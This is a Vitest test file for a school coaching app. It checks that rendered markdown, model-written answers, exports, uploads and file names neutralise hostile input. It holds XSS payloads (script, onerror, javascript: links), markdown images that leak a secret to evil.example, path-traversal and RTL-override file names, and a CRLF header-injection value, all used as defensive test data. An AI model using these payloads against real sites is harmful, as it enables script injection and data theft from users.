import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { Prose } from '../../web/features/knowledge/prose/prose.tsx'
import { answerText } from '../conversations/chat/answer-text.ts'
import { unzip } from '../exports/testing.ts'
import { noNames } from '../privacy/names.ts'
import { type Browser, ok, type Plan, started } from './testing/started.ts'

let school: Awaited<ReturnType<typeof started>>
let lee: Browser
beforeAll(async () => {
  school = await started()
  lee = await school.join('Lee', ['coach'])
})
afterAll(() => school.close())

const secret = 'sk-lantern'
const markup: [what: string, text: string][] = [
  ['an image that fails', '<img src=x onerror=alert(1)>'],
  ['a script', '<script>alert(1)</script>'],
  ['an SVG', '<svg/onload=alert(1)><a href="javascript:alert(1)">a</a></svg>'],
  ['an address that runs', '[go](javascript:alert(1)) and [there](JaVaScRiPt&colon;alert(1))'],
  ['an image with a secret', `![a](https://evil.example/?q=${secret})`],
  ['an image by reference with a secret', `![a][1] and [b][1]\n\n[1]: https://evil.example/?q=${secret}`],
  ['an address that is data', '[a](data:text/html;base64,PHNjcmlwdD4=) <a href=data:text/html,x>b</a>'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe><base href=//evil.example>'],
  ['a style', '<style>*{background:url(https://evil.example)}</style><p style="background:url(//evil.example)">'],
  ['the end of a field', '"></textarea><script>alert(1)</script>'],
]

/** Elements and attributes that do something by themselves or lead somewhere that runs. */
const acts =
  /<(?:script|img|svg|iframe|object|embed|style|link|base|form|input|meta|video|audio)\b|<[^>]*\s(?:on\w+|style|src|srcdoc)\s*=|href="(?!https?:|mailto:|#)/i

test.each(markup)('%s, drawn as a page of knowledge or an own document, does nothing and asks for nothing', (_, text) => {
  expect(
    renderToStaticMarkup(createElement(Prose, { markdown: `Before.\n\n${text}\n\nAfter.` })).replace(/ style="[^"]*"/g, ''),
  ).not.toMatch(acts)
})

test.each(markup)('%s, said by a language model, comes as plain words without an address', (_, text) => {
  const answer = answerText({ names: noNames, sources: [], said: [], plan: () => [] })
  const shown = [...`Ask her this. ${text} And then wait.`].map((piece) => answer.push(piece)).join('') + answer.end()
  expect(shown).not.toMatch(/<\w|evil\.example|javascript:|data:text|sk-lantern/i)
})

test.each(markup)('%s, in notes, goal, title and names, is taken out as words, and no file asks for anything', async (_, text) => {
  const line = text.replace(/\s+/g, ' ')
  const notes = `10:02 T: "What makes these equal?" 4 hands.\n10:03 Maya: "${line}"\n10:05 T: "Turn to your partner." 22 talk.`
  const { id, conversationId } = await school.planOf(lee, notes, { teacher: `Ms ${line}`, goal: `more talk ${line}` })
  await ok(lee.send('PATCH', `/api/conversations/${conversationId}`, { body: { title: `Talk ${line}`.slice(0, 200) } }))
  const plan = (await ok(lee.get(`/api/drafts/${id}`))) as Plan
  for (const item of plan.items)
    if (item.findings.length > 0) await lee.post(`/api/drafts/${id}/decisions`, { itemId: item.id, revision: 1, decision: 'reject' })
  await ok(lee.post(`/api/drafts/${id}/take`, {}))
  for (const what of ['export', 'evidence-sheet']) {
    const answer = await lee.get(`/api/drafts/${id}/${what}?format=markdown`)
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; /)
    const drawn = renderToStaticMarkup(createElement(Prose, { markdown: await answer.text() })).replace(/ style="[^"]*"/g, '')
    expect(drawn).not.toMatch(acts)

    const word = await lee.get(`/api/drafts/${id}/${what}?format=docx`)
    const parts = [...unzip(new Uint8Array(await word.arrayBuffer()))].map(([name, bytes]) => [name, new TextDecoder().decode(bytes)])
    for (const [name, xml] of parts) {
      expect(xml, name).not.toMatch(/<(?:script|img|svg|iframe|style)\b/i)
      if (name?.endsWith('.rels')) expect(xml, name).not.toContain('evil.example')
    }
  }
})

/** Brings a document as a file. */
async function bring(fileName: string, text: string): Promise<Response> {
  const form = new FormData()
  form.set('file', new File([text], fileName))
  return lee.send('POST', '/api/knowledge/documents', { body: form })
}

test('a .txt that holds HTML is words of a page, never a page: no address gives a file as it was brought', async () => {
  const html = 'Wait three seconds.\n\n<html><body><script>alert(document.cookie)</script></body></html>'
  const { id } = (await (await bring('waiting.txt', html)).json()) as { id: string }
  const addresses = [`/api/knowledge/sources/${id}`, `/api/knowledge/documents/${id}`, `/api/knowledge/documents/${id}/waiting.txt`]
  for (const path of [...addresses, `/api/knowledge/sources/${id}.txt`, `/files/${id}`, `/uploads/waiting.txt`, '/waiting.txt']) {
    const answer = await lee.get(path)
    expect(answer.headers.get('content-type') ?? 'none', path).toMatch(/^(?:application\/json\b|none$)/)
    expect(answer.headers.get('x-content-type-options'), path).toBe('nosniff')
    expect(answer.headers.get('content-security-policy'), path).toContain("default-src 'none'")
  }
})

test('a web page or a picture of another kind called .txt is refused in words', async () => {
  for (const text of [
    '<!doctype html><script>alert(1)</script>',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    '<?xml version="1.0"?><a/>',
  ]) {
    const answer = await bring('a.txt', text)
    expect([answer.status, ((await answer.json()) as { error: { code: string } }).error.code]).toEqual([415, 'document.unsupported'])
  }
})

const fileNames: [what: string, name: string][] = [
  ['a way up', '../../x.txt'],
  ['a way up, elsewhere', '..\\..\\x.txt'],
  ['300 characters', `${'x'.repeat(296)}.txt`],
  ['markup', '<img src=x onerror=alert(1)>.txt'],
  ['an address that runs', 'javascript:alert(1).txt'],
  ['an end that is turned round', 'x\u202etxt.exe.txt'],
]
test.each(fileNames)('a file name that is %s is a name and nothing else', async (_, name) => {
  const answer = await bring(name, 'Wait three seconds.')
  expect(answer.status).toBe(201)
  const { id } = (await answer.json()) as { id: string }
  const { documents } = (await ok(lee.get('/api/knowledge/documents'))) as { documents: { id: string; title: string; fileName: string }[] }
  const kept = documents.find((document) => document.id === id)
  for (const told of [kept?.title ?? '', kept?.fileName ?? '']) {
    expect(told).not.toMatch(/[/\\\u202e]/)
    expect(told.length).toBeLessThanOrEqual(300)
  }
  expect(kept?.fileName).not.toBe('')
})

test('a title that is such a name, or a header, names the file that is taken out, and no other', async () => {
  const { id, conversationId } = await school.planOf(lee, '10:02 T: "What makes these equal?" 4 hands.')
  for (const [what, title] of [...fileNames, ['a header', 'x"\r\nSet-Cookie: a=b\r\n\r\n<html>'] as const]) {
    await ok(lee.send('PATCH', `/api/conversations/${conversationId}`, { body: { title: title.slice(0, 200) } }))
    const answer = await lee.get(`/api/drafts/${id}/evidence-sheet?format=markdown`)
    expect([answer.status, answer.headers.get('set-cookie')], what).toEqual([200, null])
    const told = answer.headers.get('content-disposition') ?? ''
    expect(told, what).toMatch(/^attachment; filename="[^"\r\n]*"/)
    expect(decodeURIComponent(told), what).not.toMatch(/[\r\n<>]|\.\.[/\\]|filename="[^"]*[/\\]/)
    await school.planOf(lee, '10:02 T: "What makes these equal?" 4 hands.', { teacher: title.slice(0, 200) })
  }
  const zip = await lee.send('POST', '/api/account/export', {})
  const names = [...unzip(new Uint8Array(await zip.arrayBuffer())).keys()]
  expect(names.length).toBeGreaterThan(10)
  for (const name of names) expect(name).toMatch(/^(?!\/)(?!.*\.\.)[^\\<>:"|?*\p{Cc}]+$/u)
})
